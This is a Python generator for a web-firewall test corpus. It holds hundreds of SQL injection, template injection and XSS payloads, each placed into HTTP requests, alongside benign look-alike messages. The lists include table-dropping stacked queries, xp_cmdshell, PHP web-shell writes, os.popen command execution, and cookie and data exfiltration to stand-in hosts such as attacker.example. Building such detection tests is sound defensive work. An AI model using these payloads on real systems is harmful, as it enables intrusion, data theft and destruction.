"""Blind examples for SQL injection, XSS and template injection (the held-out set's largest gaps), plus
realistic benign requests with the same words (Slack messages about SQL, prose with quotes and "or",
Windows error codes, HTML-ish admin notes).

Written for this repository from general knowledge of each family (no payload list or ruleset test was
read): each entry is a shape an attacker uses, placed where our routes take input (query, form, JSON,
cookie, header). Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query
from .records import print_records

SQLI = [
    # boolean, numeric context (no quote)
    "1 or 1=1",
    "1 OR 2>1--",
    "id=1 AND 3>2",
    "-1 or 7 between 1 and 9",
    "0 || 1=1",
    "1 && 2=2",
    "5 or true",
    "1) or (1=1",
    "1)) or ((2=2",
    "10 AND 1 IN (1,2)",
    "1 or 'a'<'b'",
    "1 or 3 like 3",
    "1/**/or/**/1=1",
    "1/*!50000or*/1=1",
    "1 %0bor%0b1=1",
    "1\tOR\t1=1",
    "1 oR 1 rLiKe 1",
    "1 xor 1=0",
    "1 div 1=1",
    "2 or 0x31=0x31",
    "1 or 1e0=1",
    "1 or 1.e1>1",
    "1 or ascii(1)>0",
    "1 and substring(version(),1,1)=5",
    "1 and length(database())>3",
    "1 AND ORD(MID(user(),1,1))>64",
    "1 and (select count(*) from users)>0",
    "1 and exists(select 1 from dual)",
    "1 or not 1=2",
    "1 and if(1=1,1,0)",
    "1 and case when 1=1 then 1 else 0 end",
    "1 and 1=(select 1)",
    "1 rlike (select 1)",
    # boolean, string context
    "x' or '1'='1",
    "admin'--",
    "admin' #",
    "' or ''='",
    "') or ('a'='a",
    'x" or "a"="a',
    "' OR 1=1 LIMIT 1 -- -",
    "'or`id`>0#",
    "' || 'a'='a",
    "'&&'1'='1",
    "' or 1 like 1 -- x",
    "x'/**/or/**/'1'/**/='1",
    "'/*!or*/1=1-- ",
    "' or username is not null-- ",
    "' and 1 in (select 1)-- ",
    "'+or+1=1--+",
    "' or 2 between 1 and 3 -- ",
    "'||(select 1)||'",
    "x'||pg_sleep(5)--",
    "' or true--",
    # union
    "1 union select 1,2,3",
    "-1 UNION ALL SELECT null,null,null--",
    "0 union/**/select/**/user(),2",
    "1 /*!50000union*/ /*!50000select*/ 1,2",
    "' union select username,password from users--",
    "1 uNiOn SeLeCt 1,@@version",
    "-5 union distinct select table_name from information_schema.tables",
    "1 union(select(1),(2))",
    "1%0aunion%0aselect%0a1",
    "') union select 1,2,3 from dual--",
    "' union select null, concat(user,0x3a,pass) from admin#",
    "1 union select * from (select 1)a",
    # error based
    "1 and extractvalue(1,concat(0x7e,version()))",
    "1 and updatexml(1,concat(0x7e,user()),1)",
    "' and 1=convert(int,@@version)--",
    "1 and 1=cast((select version()) as int)",
    "' AND 1=CTXSYS.DRITHSX.SN(1,user)--",
    "1 and exp(~(select * from (select user())x))",
    "1 and geometrycollection((select * from(select user())a))",
    "' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--",  # noqa: E501
    "1 and json_keys((select convert((select user()) using utf8)))",
    "' or 1=utl_inaddr.get_host_name((select user from dual))--",
    # time based
    "1 and sleep(5)",
    "1' and sleep(5)#",
    "1;waitfor delay '0:0:5'--",
    "1) and benchmark(5000000,md5(1))#",
    "1 and pg_sleep(5) is null",
    "1;select pg_sleep(5)",
    "1 and 1=dbms_pipe.receive_message('a',5)",
    "1 and randomblob(500000000)",
    "if(now()=sysdate(),sleep(5),0)",
    "1 and (select * from (select(sleep(5)))a)",
    "'XOR(if(1=1,sleep(5),0))XOR'",
    "1 or if(ascii(substr(user(),1,1))>97,sleep(3),0)",
    "(select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)",
    # stacked
    "1; drop table users--",
    "1; delete from sessions",
    "'; insert into users(name) values('x')--",
    "1;update users set role='admin' where id=1",
    "1; exec xp_cmdshell 'whoami'--",
    "'; shutdown--",
    "1; declare @q varchar(99) set @q='x' exec(@q)",
    "1;create table t(x text);--",
    "1; copy t from program 'id'",
    "1; truncate table audit_log",
    "1; alter user sa with password='x'",
    # out of band
    "1; exec master..xp_dirtree '\\\\attacker.example\\a'--",
    "1 and load_file(concat('\\\\\\\\',user(),'.attacker.example\\\\a'))",
    "' || utl_http.request('http://attacker.example/'||user) --",
    "1;select * into outfile '/tmp/x.php' from t",
    "1 into dumpfile '/var/www/s.php'",
    "1 union select '<?php system($_GET[c]);?>' into outfile '/var/www/s.php'",
    "1 and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://a.example/\">%x;]>'),'/l') from dual) is not null",  # noqa: E501
    # order by / having / procedure / misc syntax
    "1 order by 5--",
    "1 order by 10#",
    "name asc, (select 1)",
    "1 group by 1,2 having 1=1",
    "' having 1=1--",
    "1 procedure analyse()",
    "1 procedure analyse(extractvalue(1,0x7e),1)",
    "(case when 1=1 then id else name end)",
    "id desc limit 1 offset (select 1)",
    "1 limit 1 into @a",
    "if(1=1,id,name)",
    # literals, concatenation, functions
    "1 and char(97)=char(97)",
    "1 and 0x61=0x61",
    "' and 'a'||'b'='ab",
    "1 and concat('a','b')='ab'",
    "' and substring(@@version,1,1)='5",
    "1 and mid(user(),1,1)='r'",
    "1 and unhex(hex(1))=1",
    "1 and chr(65)||chr(66)='AB'",
    "1 and x'41'='A'",
    "1 and n'a'='a'",
    "select * from users",
    "select password from users where id=1",
    "1 and (select substring(table_name,1,1) from information_schema.tables limit 1)='a'",
    "1 and `id`=1",
    "1 and @@version like '5%'",
    "1 and version() regexp '^5'",
    "1 and 1 sounds like 1",
    # JSON operators, sqlite, postgres
    "1 and data->>'role'='admin'",
    "1 and doc->'$.admin'=true",
    "1 and json_extract(data,'$.a')=1",
    "1 and sqlite_version()>0",
    "1 union select sql from sqlite_master",
    "1 and 1=(select 1 from pg_user limit 1)",
    "1;select current_setting('is_superuser')",
    "1 and current_user=session_user",
    "1 and 1::int=1",
    "$1 or $$a$$=$$a$$",
    "1 and (select 1)::text='1'",
    "1 and 'a' ~ 'a'",
    "1 and pg_read_file('/etc/hosts') is not null",
    # mssql / oracle
    "1 and db_name()>0",
    "1 and 1=(select top 1 name from sysobjects)",
    "1;exec sp_configure 'show advanced options',1",
    "1 and user_name()='dbo'",
    "' and 1=(select banner from v$version where rownum=1)--",
    "1 and rownum=1",
    "1 and (select user from dual)='SYS'",
    "1 and dbms_xmlgen.getxml('select 1 from dual') is not null",
    "1 and sys_context('userenv','current_user')='X'",
]

SSTI = [
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "{{config}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{joiner.__init__.__globals__.os}}",
    "{{namespace.__init__.__globals__.os.popen('ls').read()}}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{ url_for.__globals__.os.environ }}",
    "{{get_flashed_messages.__globals__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% import os %}{{ os.system('id') }}",
    "{% set x = 'a' %}{{x}}",
    "{% debug %}",
    "{% include 'admin.html' %}",
    '{{ range.constructor("return process")() }}',
    "{{constructor.constructor('return this')()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "[#assign x=1]",
    "#set($x=7*7)$x",
    '#set($e="")$e.getClass().forName("java.lang.Runtime")',
    '$class.inspect("java.lang.Runtime")',
    "${product.getClass().getProtectionDomain()}",
    "*{T(java.lang.System).getenv()}",
    "@{T(java.lang.Runtime)}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "${applicationScope}",
    "${pageContext.request}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{$smarty.version}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'x',self::clearConfig())}",
    "<%= system('id') %>",
    "<%= `id` %>",
    "<%= File.open('/etc/hosts').read %>",
    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    "#{`id`}",
    "@(1+1)",
    "@{var x=1;}",
    '@System.Diagnostics.Process.Start("cmd")',
    "{{=7*7}}",
    "{{= it.x }}",
    '{{#with "s" as |string|}}{{/with}}',
    "{{this.constructor.constructor('return process')()}}",
    "${{<%[%'\"}}%\\.",
    "{{'a'.toUpperCase()}}",
    "{{ 'x'|upper }}{{7*7}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['id']|filter('system')}}",
    "{{app.request.server.all|join(',')}}",
    "{{dump(app)}}",
    "{{ ''|attr('__class__') }}",
    "{{ x.__dict__ }}",
    "${__import__('os').popen('id').read()}",
    "<%import os%>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "{{ ().__class__.__bases__[0] }}",
    "{%print(7*7)%}",
    "{{ request.args.x }}{{7*7}}",
    "{{ g.pop.__globals__ }}",
]

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//attacker.example/x.js></ScRiPt>",
    "<script>fetch('//a.example/?'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=prompt(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=confirm`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" onfocus=alert(1) autofocus x="',
    '"><svg/onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "'-alert(1)-'",
    "\\';alert(1)//",
    "javascript:alert(document.domain)",
    "javascript://%0aalert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<x onclick=alert(1)>click",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[`al`+`ert`](1)>",
    "<img src=x onerror=this.src='//a.example/?c='+document.cookie>",
    "<svg onload=location='//a.example/?'+document.cookie>",
    "<script>document.write('<img src=//a.example/'+document.cookie+'>')</script>",
    "<div id=x></div><script>x.innerHTML=location.hash</script>",
    "<script>eval(location.hash.slice(1))</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>new Function('alert(1)')()</script>",
    "<script>window.location='javascript:alert(1)'</script>",
    "<img src=1 onerror=import('//a.example/x.js')>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=import href="//a.example/x.html">',
    '<table background="javascript:alert(1)">',
    "<isindex action=javascript:alert(1) type=submit>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href=# onclick="alert(1)">x</a>',
    '<p style="x:expression(alert(1))">',
    "<div onpointerover=alert(1)>x</div>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",  # noqa: E501
    "{{constructor.constructor('alert(1)')()}}",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<object type=text/html data=//a.example/x.html></object>",
]

SQLI_BENIGN = [
    "Select the plan that fits your team or contact sales",
    "union meeting moved to Friday, or Monday if the room is taken",
    "Conor O'Brien and Mary O'Neil joined the team",
    "It's 1 or 2 days of work, I'd say",
    "error 0x80070643 when installing the update",
    "HRESULT 0x8007000E out of memory",
    "Windows update fails with 0x800f081f again",
    "we drop the table of contents from the PDF",
    "order by date desc, then by name",
    "the 'delete' button doesn't ask for confirmation",
    "I'll join you at 5 or 6 for the select committee",
    "set the sleep timer to 30 minutes",
    "the char limit is 280, or 4000 for premium",
    'he said "or else" and left',
    "price 10-20% off; use code SPRING",
    "my name's D'Arcy -- not Darcy",
    "Version 5.7.1 (build 0x1F) released",
    "**bold** and _italic_ work in markdown; `code` too",
    "1. Open settings\n2. Select *Privacy*\n3. Toggle 'Share data'",
    "rock 'n' roll band from the '80s",
    "Insert into the slot, then update the firmware",
    "tl;dr: we're going with PostgreSQL 16",
    "Having trouble with the union of two sets in math class",
    "if you're free, case study review at 3pm",
    "Where did the 'x' or 'y' axis go?",
]
XSS_BENIGN = [
    "Use the <b>bold</b> tag sparingly",
    "I <3 this product",
    "a < b and c > d in the proof",
    "The script for the play is ready",
    "Send an alert to on-call if errors exceed 5%",
    "onload handlers are described in the MDN docs",
    "images: see the <img> docs on MDN",
    "Tom & Jerry's <favourite> episode",
    "Click 'Download' on the javascript tutorial page",
    "x => x * 2 is an arrow function",
    "notes: customer said the iframe embed looks wrong on mobile",
    "document the cookie policy before launch",
]
SSTI_BENIGN = [
    "Use {name} and {date} as placeholders",
    "Hi {{first_name}}, your order shipped",
    "total: ${price} excl. VAT",
    'C# string interpolation: $"{x}" is handy',
    "50% off <%= not a template, just a note",
    "#{hashtag} campaign ideas",
]


def _cookie(uri: str, name: str, value: str) -> dict[str, Any]:
    rec = _get(uri)
    return {
        **rec,
        "headers": {**rec["headers"], "Cookie": f"session=s3ss10n; {name}={urllib.parse.quote(value, safe='')}"},
    }


def _header(uri: str, name: str, value: str) -> dict[str, Any]:
    rec = _get(uri)
    return {**rec, "headers": {**rec["headers"], name: value.replace("\n", " ")}}


def _placements(p: str, i: int) -> list[tuple[str, dict[str, Any]]]:
    """Three placements per payload, rotating over the five kinds our routes take."""
    kinds = [
        ("query", lambda: _get(_query("/api/users", [(("id", "q", "sort")[i % 3], p), ("page", "1")]))),
        ("form", lambda: _form("/admin/users/search", [("csrf_token", "t0k3n"), (("q", "role", "user_id")[i % 3], p)])),
        ("json", lambda: _json("/api/users", {"email": "a@example.org", ("filter", "name", "id")[i % 3]: p})),
        ("cookie", lambda: _cookie("/api/users", ("prefs", "lang", "tracking")[i % 3], p)),
        (
            "header",
            lambda: _header(
                "/api/users",
                ("Referer", "X-Forwarded-Host", "User-Agent")[i % 3],
                p if i % 3 != 0 else "https://app.example.com/?q=" + urllib.parse.quote(p),
            ),
        ),
    ]
    picks = (0, 1, 2) if i % 2 == 0 else ((3, 4, 2) if i % 4 == 1 else (0, 3, 4))
    return [(kinds[k][0], kinds[k][1]()) for k in picks]


FAMILIES = {"sqli": SQLI, "ssti": SSTI, "xss": XSS}


def attacks() -> Iterator[dict[str, Any]]:
    for family, payloads in FAMILIES.items():
        for i, p in enumerate(payloads):
            for j, (placement, rec) in enumerate(_placements(p, i)):
                yield {**rec, "id": f"blind-{family}-{i:03d}-{j}", "category": family, "placement": placement}


def _slack_event(text: str, n: int) -> dict[str, Any]:
    ts = f"{1733300000 + n}.000100"
    doc = {
        "token": "vErIfIcAtIoNtOkEn",
        "team_id": "T061EG9R6",
        "api_app_id": "A0PNCHHK2",
        "event": {
            "type": "message",
            "user": "U0AACLC1M9",
            "text": text,
            "ts": ts,
            "channel": "C0YT0EZP5F",
            "event_ts": ts,
            "channel_type": "channel",
        },
        "type": "event_callback",
        "event_id": f"Ev{n:09d}",
        "event_time": 1733300000 + n,
    }
    return {
        "method": "POST",
        "uri": "/slack/events",
        "body": json.dumps(doc, ensure_ascii=False),
        "headers": {
            "User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
            "Accept": "*/*",
            "Content-Type": "application/json",
            "X-Slack-Request-Timestamp": str(1733300000 + n),  # the replayer signs it anew
            "X-Slack-Signature": "v0=placeholder",
        },
    }


# Whole SQL statements and tautologies are attack-shaped in a search field; people write them in chat.
# Developers talking about SQL/HTML in chat: signed Slack events (test_waf_corpus.slack_signed signs them).
SLACK_TEXTS = [
    "try `SELECT * FROM orders WHERE id = 1 OR status = 'open'` in the console",
    "the query `select count(*) from users union select count(*) from admins` is weird",
    "who wrote `' OR 1=1 --` in the test fixtures? lol, it's the sqli example",
    "we should add <script> tag stripping to the sanitizer, see <img onerror> examples in the OWASP cheat sheet",
    "Jinja renders {{ user.name }} and {% if admin %} blocks fine now",
    "run `DROP TABLE tmp_import;` after the migration please",
    "sleep(5) in the retry loop is too long",
    "can someone review my PR? the select from orders where id = 1 is slow",
    "Use SELECT name FROM users WHERE active = true for the report",
    "score was 3>2 in the final, and 1=1 draw before",
]


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    texts = SQLI_BENIGN + XSS_BENIGN + SSTI_BENIGN
    for i, text in enumerate(texts):
        recs = [
            _get(_query("/api/users", [("q", text)])),
            _form("/admin/users/search", [("csrf_token", "t0k3n"), (("q", "notes", "display_name")[i % 3], text)]),
            _json("/api/users", {"name": "Ann O'Neil", "bio": text}),
        ]
        if i % 2 == 0:
            recs.append(_json("/api/users", {"display_name": text}))
        for rec in recs:
            n += 1
            yield {**rec, "id": f"blindben-text-{n:04d}", "category": "benign", "placement": "mixed"}
    for name in ("O'Brien", "D'Arcy", "Ó Súilleabháin", "Smith-Jones"):
        for rec in (
            _get(_query("/api/users", [("q", name), ("sort", "name"), ("order", "asc")])),
            _cookie("/api/users", "last_search", name),
        ):
            n += 1
            yield {**rec, "id": f"blindben-name-{n:04d}", "category": "benign", "placement": "mixed"}
    for i, text in enumerate(SLACK_TEXTS * 3):
        n += 1
        yield {**_slack_event(text, i), "id": f"blindben-slack-{n:04d}", "category": "benign", "placement": "json"}


if __name__ == "__main__":
    print_records(attacks(), benign())
